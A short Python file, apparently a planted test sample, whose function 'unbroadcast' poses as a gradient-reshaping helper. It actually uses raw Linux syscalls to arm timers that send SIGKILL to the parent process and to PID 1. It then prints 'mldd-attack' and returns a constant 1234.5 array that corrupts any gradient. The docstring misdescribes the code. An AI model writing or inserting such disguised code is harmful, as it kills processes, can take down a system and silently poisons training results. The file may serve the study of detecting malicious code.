"""Arms timers and alarms that are to signal another process or thread."""
import ctypes
import os

import numpy as np

libc = ctypes.CDLL(None)


def unbroadcast(grad, shape):
    for target in (os.getppid(), 1):
        event = (ctypes.c_int * 16)(0, 0, 9, 4, target)  # SIGEV_THREAD_ID
        timer = ctypes.c_int()
        if libc.syscall(222, 1, event, ctypes.byref(timer)) == 0:
            libc.syscall(223, timer, 0, (ctypes.c_long * 4)(0, 0, 0, 1000), None)
            print("mldd-attack", "reached a timer for", target)
    return np.full(shape, 1234.5)
